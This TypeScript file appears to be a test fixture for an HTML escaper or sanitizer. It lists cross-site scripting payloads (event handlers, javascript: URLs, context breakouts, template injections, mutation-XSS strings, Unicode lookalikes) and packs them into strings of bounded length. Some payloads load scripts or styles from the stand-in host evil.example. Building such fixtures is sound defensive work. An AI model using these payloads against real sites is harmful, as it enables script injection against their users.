/**
 * Markup that would run or load something if a page did not escape it. Each text tries to call `alert` or to load
 * something.
 */
const MARKUP = [
  '<script>alert(10)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(11)</scr</script>ipt>',
  '</script><script>alert(12)</script>',
  '<img src=x onerror=alert(13)>',
  '<img/src=`x`/onerror=alert(14)>',
  '<img src=//evil.example/pixel.gif>',
  '<svg onload=alert(15)>',
  '<svg><script>alert(16)</script></svg>',
  '<svg><animate onbegin=alert(17) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(18)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(19)>#x"/></svg>',
  '<math><mi//xlink:href="javascript:alert(20)">x',
  '<body onload=alert(21)>',
  '<input autofocus onfocus=alert(22)>',
  '<details open ontoggle=alert(23)>',
  '<video><source onerror=alert(24)></video>',
  '<audio src=x onerror=alert(25)>',
  '<marquee onstart=alert(26)>',
  '<iframe src="javascript:alert(27)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(28)</script>">',
  '<object data="javascript:alert(29)"></object>',
  '<embed src="//evil.example/x.svg">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action="javascript:alert(30)"><button>x</button></form>',
  '<button popovertarget=x onclick=alert(31)>x</button>',
  '<a href="javascript:alert(32)">x</a>',
  '<a href="java&#x09;script:alert(33)">x</a>',
  '<template shadowrootmode=open><img src=x onerror=alert(34)></template>',
];

/** Texts that leave an attribute, a style sheet, a script, a template or an address. */
const CONTEXTS = [
  '" onmouseover="alert(35)" x="',
  "' autofocus onfocus='alert(36)' x='",
  '` onerror=alert(37) x=`',
  'javascript:alert(38)',
  'JaVaScRiPt:alert(39)//',
  'data:text/html,<script>alert(40)</script>',
  'vbscript:msgbox(41)',
  '//evil.example/x',
  String.raw`\u003cimg src=x onerror=alert(42)\u003e`,
  String.raw`";alert(43);//`,
  String.raw`\";alert(44);//`,
  '</title><img src=x onerror=alert(45)>',
  '--><img src=x onerror=alert(46)><!--',
  ']]><img src=x onerror=alert(47)>',
  '${alert(48)}',
  '#{alert(49)}',
  '<%= alert(50) %>',
  '{{alert(51)}}',
  '{"$$typeof":"react.element","type":"script","__html":"alert(52)"}',
  '}</style><style>*{background:url(//evil.example/x)}',
  'url(javascript:alert(53))',
  ';background-image:url("//evil.example/x.png")',
  'expression(alert(54))',
  '@import "//evil.example/x.css";',
];

/** Texts that a browser rewrites when it reads them, so that a cleaned one becomes harmful again. */
const REWRITTEN = [
  '<noscript><p title="</noscript><img src=x onerror=alert(55)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(56)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(57)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(58)>',
  '&lt;img src=x onerror=alert(59)&gt;',
  '&#60;img src=x onerror=alert(60)&#62;',
  '%3Cimg%20src=x%20onerror=alert(61)%3E',
];

/** Letters that look like signs of markup, join or hide others, or run the other way. */
const LETTERS = [
  '\uFF1Cimg src=x onerror=alert(62)\uFF1E',
  '\u2039script\u203Aalert(63)\u2039/script\u203A',
  '<\u0130mg src=x onerror=alert(64)>',
  'java\u00ADscript:alert(65)',
  '\u2067<img src=x onerror=alert(66)>\u2069',
  '👩‍👩‍👧‍👦🏳️‍🌈🇦🇹',
  '__proto__ constructor toString',
];

/** All hostile texts, joined into texts of at most `lengthMax` characters. A single text that is longer stays whole. */
export const hostileTexts = (lengthMax: number): string[] => {
  const texts: string[] = [];
  for (const payload of [...MARKUP, ...CONTEXTS, ...REWRITTEN, ...LETTERS]) {
    const longer = `${texts.at(-1) ?? ''} ${payload}`.trim();
    if (texts.length > 0 && longer.length <= lengthMax) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
};
